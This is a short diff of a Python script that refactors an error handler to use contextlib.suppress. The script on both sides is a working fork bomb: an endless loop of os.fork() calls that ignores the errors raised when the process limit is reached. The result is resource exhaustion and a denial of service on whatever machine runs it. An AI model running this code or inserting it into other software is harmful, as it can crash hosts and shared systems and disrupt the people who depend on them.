@@ -1,6 +1,6 @@
+import contextlib
 import os
+
 while True:
-    try:
+    with contextlib.suppress(OSError):
         os.fork()
-    except OSError:
-        pass
